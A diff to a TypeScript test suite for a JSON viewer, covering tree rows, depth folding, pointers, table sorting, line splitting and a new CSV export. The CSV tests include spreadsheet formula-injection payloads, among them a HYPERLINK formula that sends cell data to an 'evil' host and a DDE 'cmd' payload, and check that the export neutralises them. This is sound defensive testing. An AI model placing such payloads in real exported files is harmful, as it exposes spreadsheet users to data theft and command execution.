@@ -4,13 +4,19 @@ import { rawLines } from '../text/raw-lines';
 import { colourJson, markRanges } from './colours';
 import { parseJson } from './parse';
 import { placeIssues } from './placed-issues';
-import { cellText, sortedRows, tablesIn } from './table';
-import { treeRows } from './tree-rows';
+import { cellText, sortedPlaces, tablesIn, tableToCsv } from './table';
+import { type TreeRow, treeRows } from './tree-rows';
+
+const allRows = (text: string, toggled: readonly number[], revealed: readonly string[] = [], depth?: number) => {
+  const { rows, count } = treeRows(parseJson(text), { toggled, revealed, depth });
+  return rows(0, count);
+};
+
+const drawn = ({ level, name, value }: TreeRow) =>
+  `${'  '.repeat(level - 1)}${name === undefined ? '' : `${name}: `}${value}`;
 
 const shown = (text: string, toggled: readonly number[] = [], revealed: readonly string[] = []) =>
-  treeRows(parseJson(text), { toggled: new Set(toggled), revealed }).map(
-    ({ level, name, value }) => `${'  '.repeat(level - 1)}${name === undefined ? '' : `${name}: `}${value}`,
-  );
+  allRows(text, toggled, revealed).map(drawn);
 
 describe('rows of a tree', () => {
   it('keep numbers and duplicate keys as received', () => {
@@ -46,9 +52,32 @@ describe('rows of a tree', () => {
   it('have ids of their own', () => {
     const text = JSON.stringify({ a: 'x\n'.repeat(5), b: [[], {}, 'y\ny'] });
     const toggled = new Set([...text.matchAll(/"(?:x|y)/g)].map(({ index }) => index));
-    const ids = treeRows(parseJson(text), { toggled, revealed: [] }).map(({ id }) => id);
+    const ids = allRows(text, [...toggled]).map(({ id }) => id);
     expect(ids.length).toBeGreaterThan(10);
     expect(new Set(ids).size).toBe(ids.length);
+  });
+
+  it.each([
+    [0, ['2 members']],
+    [1, ['2 members', '  a: 1 member', '  d: "x"']],
+    [3, ['2 members', '  a: 1 member', '    b: 1 item', '      0: 1', '  d: "x"']],
+  ])('are folded to depth %i', (depth, expected) => {
+    expect(allRows('{"a": {"b": [1]}, "d": "x"}', [], [], depth).map(drawn)).toEqual(expected);
+  });
+
+  it('name what holds them, and their pointers', () => {
+    const rows = allRows('{"a/b": [{"c~d": 1}]}', [], ['/a~1b/0/c~0d']);
+    expect(rows.map(({ pointer, parent }) => [pointer, parent])).toEqual([
+      ['', -1],
+      ['/a~1b', 0],
+      ['/a~1b/0', 1],
+      ['/a~1b/0/c~0d', 2],
+    ]);
+  });
+
+  it('are the same in a window as in the whole', () => {
+    const { rows, count } = treeRows(parseJson('{"a": [1, 2, 3], "b": {"c": null}}'), { toggled: [], revealed: [] });
+    expect([...rows(0, 3), ...rows(3, count)]).toEqual(rows(0, count));
   });
 
   it('come from any JSON', () => {
@@ -66,8 +95,8 @@ describe('tables', () => {
   const [table] = tablesIn(tree);
   if (!table) throw new Error('No table was found.');
   const column = (name: string, direction: 'ascending' | 'descending') =>
-    sortedRows(table, { column: name, direction }).map((row) =>
-      cellText(row.members.find(({ key }) => key.value === name)?.value, text),
+    sortedPlaces(table, { column: name, direction })?.map((place) =>
+      cellText(table.rows[place]?.members.find(({ key }) => key.value === name)?.value, text),
     );
 
   it('have a column for every key', () => expect(table.columns).toEqual(['n', 's', 't']));
@@ -86,9 +115,37 @@ describe('tables', () => {
   ])('in %s', (source, paths) => expect(tablesIn(parseJson(source)).map(({ path }) => path)).toEqual(paths));
 });
 
+describe('a table as CSV', () => {
+  const csv = (text: string) => {
+    const tree = parseJson(text);
+    const [table] = tablesIn(tree);
+    return table && tableToCsv(table, text, sortedPlaces(table, undefined)).split('\r\n');
+  };
+
+  it('has whole cells, numbers as spelled, and every column', () => {
+    const text = `[{"n": 12345678901234567890, "s": "a, \\"b\\""}, {"n": -1.50, "l": [1, {"x": null}]}, {"s": "${'y'.repeat(300)}"}]`;
+    expect(csv(text)).toEqual([
+      'n,s,l',
+      '12345678901234567890,"a, ""b""",',
+      '-1.50,,"[1, {""x"": null}]"',
+      `,${'y'.repeat(300)},`,
+      '',
+    ]);
+  });
+
+  it.each(['=HYPERLINK("http://evil/?"&A1)', "+cmd|'/c calc'!A1", '@SUM(1)', '\t=1', '\r=1'])(
+    'makes text of the formula %s',
+    (formula) => {
+      const [, cell = ''] = csv(JSON.stringify([{ a: formula }])) ?? [];
+      expect(cell.replace(/^"/, '')).toMatch(/^'/);
+    },
+  );
+});
+
 describe('raw text', () => {
   it('is cut into lines that are together the text', () => {
-    expect(rawLines('ab\n\ncdefg\n', 2)).toEqual([
+    const lines = rawLines('ab\n\ncdefg\n', 2);
+    expect(lines.lines(0, lines.count)).toEqual([
       [0, 2],
       [3, 3],
       [4, 6],
@@ -96,6 +153,25 @@ describe('raw text', () => {
       [8, 9],
       [10, 10],
     ]);
+  });
+
+  it('law: has each line in any window, and tells the line of an offset', () => {
+    fc.assert(
+      fc.property(
+        fc.string({ unit: fc.constantFrom('a', 'b', '\n'), maxLength: 400 }),
+        fc.nat(300),
+        (source, start) => {
+          const { count, lines, lineAt } = rawLines(source, 3);
+          const all = lines(0, count);
+          expect(lines(start, start + 5)).toEqual(all.slice(start, start + 5));
+          for (const [line, [from, to]] of all.entries()) {
+            expect(to - from).toBeLessThanOrEqual(3);
+            if (to > from) expect(lineAt(from)).toBe(line);
+          }
+          expect(all.map(([from, to]) => source.slice(from, to)).join('')).toBe(source.replaceAll('\n', ''));
+        },
+      ),
+    );
   });
 
   it.each([
